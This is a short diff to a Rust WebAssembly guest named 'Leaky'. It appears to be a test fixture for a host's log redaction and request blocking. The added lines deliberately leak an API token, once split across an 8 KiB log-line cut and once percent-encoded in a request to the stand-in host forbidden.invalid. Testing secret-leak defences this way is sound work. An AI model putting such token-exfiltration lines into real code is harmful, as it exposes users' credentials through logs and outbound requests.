@@ -40,7 +40,13 @@ impl Guest for Leaky {
     fn call_with_token(url: String) -> Result<String, String> {
         let token = token().ok_or_else(|| "API_TOKEN is not set".to_string())?;
         eprint(&format!("calling {url} with token {token}\n"));
+        // A line too long to be logged whole, cut by the host every 8 KiB: the token across
+        // the first cut.
+        eprint(&format!("{}{token} ends a long line\n", "x".repeat(8 * 1024 - 4)));
         let denied = http_client::get(&format!("http://forbidden.invalid/?token={token}"), 16);
+        // The token percent-encoded in a denied request's URI.
+        let encoded = token.replace('-', "%2D");
+        let _ = http_client::get(&format!("http://forbidden.invalid/?enc={encoded}"), 16);
         let response = http_client::get_with_headers(
             &url,
             &[("authorization", &format!("Bearer {token}"))],
